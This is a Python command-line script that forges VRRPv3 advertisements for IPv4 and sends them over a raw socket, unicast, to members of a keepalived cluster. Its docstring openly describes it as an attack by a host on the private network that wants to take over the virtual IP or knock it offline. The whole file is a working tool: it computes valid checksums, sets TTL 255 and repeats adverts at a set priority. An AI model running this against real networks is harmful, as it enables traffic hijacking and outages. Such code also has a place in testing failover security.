"""Send forged VRRPv3 adverts (IPv4) from this host: the attack of a host on
the private network that wants the VIP, or wants it off the air.

    vrrp_advert.py VRID PRIORITY VIP DEST [DEST...] [--count N] [--every S]

Each advert goes to every DEST (unicast, as the cluster's keepalived sends
them) with TTL 255, a valid checksum and the source address this host has
towards DEST. It stops after --count rounds.
"""
import argparse
import socket
import struct
import time

IPPROTO_VRRP = 112


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(vrid, priority, vip, source, dest, centiseconds=100):
    body = struct.pack("!BBBBH", 0x31, vrid, priority, 1, centiseconds & 0x0FFF) + socket.inet_aton(vip)
    packet = body[:6] + b"\0\0" + body[6:]
    pseudo = socket.inet_aton(source) + socket.inet_aton(dest) + struct.pack("!BBH", 0, IPPROTO_VRRP, len(packet))
    return packet[:6] + struct.pack("!H", checksum(pseudo + packet)) + packet[8:]


def source_towards(dest):
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((dest, 9))
    try:
        return probe.getsockname()[0]
    finally:
        probe.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("vrid", type=int)
    parser.add_argument("priority", type=int)
    parser.add_argument("vip")
    parser.add_argument("dests", nargs="+")
    parser.add_argument("--count", type=int, default=40)
    parser.add_argument("--every", type=float, default=0.1)
    args = parser.parse_args()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, IPPROTO_VRRP)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    packets = [(dest, advert(args.vrid, args.priority, args.vip, source_towards(dest), dest)) for dest in args.dests]
    for dummy in range(args.count):
        for dest, packet in packets:
            sock.sendto(packet, (dest, 0))
        time.sleep(args.every)
    print("sent %d adverts (VRID %d, priority %d) to %s" % (args.count * len(packets), args.vrid, args.priority, ", ".join(args.dests)))


if __name__ == "__main__":
    main()
